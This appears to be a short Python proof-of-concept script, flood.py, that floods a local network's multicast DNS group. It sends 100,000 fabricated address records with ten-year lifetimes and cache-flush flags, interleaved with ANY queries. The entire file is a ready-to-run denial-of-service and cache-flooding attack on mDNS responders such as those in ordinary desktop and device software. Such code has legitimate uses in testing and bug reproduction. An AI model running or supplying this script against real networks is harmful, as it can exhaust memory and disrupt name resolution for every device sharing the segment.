# Made-up address records as fast as they go, each with another name, to be remembered for ten years, and
# questions for everything: flood.py OWN_ADDRESS
import itertools
import socket
import struct
import sys

sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
sender.bind((sys.argv[1], 5353))
sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))

EVERYTHING = struct.pack("!6H", 0, 0, 1, 0, 0, 0) + b"\x07wizyjno\x05local\0" + struct.pack("!HH", 255, 1)
for number in itertools.count(1):
    name = b"\x0bn%010d\x05local\0" % number
    record = struct.pack("!HHIH4s", 1, 0x8001, 315_360_000, 4, struct.pack("!I", number))
    sender.sendto(struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0) + name + record, ("224.0.0.251", 5353))
    if number % 10 == 0:
        sender.sendto(EVERYTHING, ("224.0.0.251", 5353))
    if number % 20_000 == 0:
        print(f"{number} sent", flush=True)
    if number == 100_000:
        break
